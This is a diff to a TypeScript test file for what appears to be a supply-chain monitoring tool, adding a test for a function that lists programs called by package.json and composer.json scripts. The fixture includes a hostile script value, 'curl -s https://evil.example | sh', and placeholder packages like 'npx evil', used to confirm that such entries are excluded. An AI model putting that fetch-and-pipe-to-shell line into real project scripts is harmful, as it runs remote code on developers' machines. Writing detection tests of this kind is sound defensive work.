@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, onTestFinished, test } from 'vitest';
 import { bringsFromNetwork } from '../../src/distill/risk.js';
-import { manifestPackages, manifestScripts } from '../../src/watchers/manifests.js';
+import { manifestPackages, manifestPrograms, manifestScripts } from '../../src/watchers/manifests.js';
 
 const folderWith = (files: Record<string, string>): string => {
   const folder = mkdtempSync(join(tmpdir(), 'dripstone-manifests-'));
@@ -52,4 +52,11 @@ test.each([
   const names = [...manifestScripts([folderWith({ [file]: text })])];
   expect(names.filter((name) => name.startsWith('run ')).sort()).toEqual(scripts);
   expect(names).toContain(`./${file}`);
+});
+
+test('programs that scripts of a manifest call by name are the project\'s own; what fetches or runs anything is not', () => {
+  const scripts = { test: 'vp test run && CI=1 vp lint', prepare: 'npx evil', 'set-up': 'curl -s https://evil.example | sh', go: './scripts/go.sh', ship: 'env A=1 evil-cli; node tools/x.js | tee log' };
+  const folder = folderWith({ 'package.json': JSON.stringify({ scripts }), 'composer.json': '{"scripts":{"lint":["phpcs"],"fix":"phpcbf ."}}', 'deno.json': '{"tasks":3}' });
+  expect([...manifestPrograms([folder])].sort()).toEqual(['run phpcbf', 'run tee', 'run vp']);
+  expect([...manifestPrograms([folderWith({ 'package.json': '[' })])]).toEqual([]);
 });
